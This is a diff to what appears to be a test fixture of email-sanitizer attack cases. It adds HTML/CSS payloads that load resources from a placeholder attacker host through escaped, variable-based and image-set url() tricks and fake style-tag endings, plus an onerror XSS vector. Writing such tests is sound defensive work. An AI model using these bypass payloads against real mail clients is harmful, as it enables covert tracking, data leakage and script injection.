@@ -27,6 +27,14 @@ export const mailAttacks: readonly Attack[] = [
     `<p style="cursor: url(${evil}/c), auto; list-style: url(${evil}/l); border-image: url(${evil}/b)">x</p>`,
   ],
   [
+    'an address with modifiers, in another case, and escaped',
+    `<p style='background: url("${evil}/m" crossorigin(anonymous)); background-image: URL(${evil}/u)'>x</p><p style="background-image: \\75rl(${evil}/e)">x</p><p style="--x: url(${evil}/v); background-image: var(--x)">x</p><p style="background-image: image-set('${evil}/s' 1x)">x</p>`,
+  ],
+  [
+    'styles that pretend to have ended',
+    `<style>/*</style><style>*/ p { background: url(${evil}/a) }</style><svg><style>p { background: url(${evil}/b) }</style></svg><style><!-- </style><img src=x onerror=alert(1)> --></style>`,
+  ],
+  [
     'style by attribute selectors',
     `<style>a[href^=h] { background: url(${evil}/h) }</style><a href="https://example.org">x</a>`,
   ],
